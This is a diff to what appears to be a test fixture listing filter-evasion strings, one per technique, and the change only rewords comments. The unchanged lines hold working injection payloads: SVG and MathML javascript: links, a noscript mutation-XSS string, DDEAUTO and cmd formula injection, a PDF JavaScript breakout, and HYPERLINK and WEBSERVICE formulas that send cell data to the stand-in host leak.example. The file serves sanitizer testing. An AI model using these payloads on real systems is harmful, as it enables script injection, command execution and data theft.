@@ -1,6 +1,6 @@
 /**
- * Texts that try to become script or to fetch something: one for each technique that lists of filter evasion name, in words of our
- * own. What runs calls `alert`; what fetches asks for `leak.example`.
+ * Texts that try to run as a script or to fetch something: one for each technique in lists of filter evasion, in our
+ * own words. Scripts call `alert`; fetches request `leak.example`.
  */
 const nul = '\u0000';
 
@@ -139,7 +139,7 @@ export const scriptTexts: readonly (readonly [technique: string, text: string])[
   ['graphic that sets', '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y="20">x</text></a></svg>'],
   ['foreign object', '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"/></foreignObject></svg>'],
   ['formula', '<math href="javascript:alert(1)"><mtext>x</mtext></math>'],
-  // What changes its meaning when it is read twice.
+  // Texts that change meaning when they are parsed twice.
   ['text that is mark-up the second time', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
   [
     'style within a formula',
@@ -161,7 +161,7 @@ export const scriptTexts: readonly (readonly [technique: string, text: string])[
   ['end of a field in XML', '</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r><w:r><w:t>'],
   ['end of a cell in XML', '</t></is></c><c r="A1"><f>cmd|x!A0</f></c>'],
   ['end of a PDF string', ') /S /JavaScript /JS (app.alert(1)) >> endobj ('],
-  // What spreadsheets take for a formula.
+  // Texts that spreadsheets treat as a formula.
   ['formula of a call', "=cmd|'/C x'!A0"],
   ['formula of a link', '=HYPERLINK("http://leak.example/?"&A1,"x")'],
   ['formula of a service', '=WEBSERVICE("http://leak.example/")'],
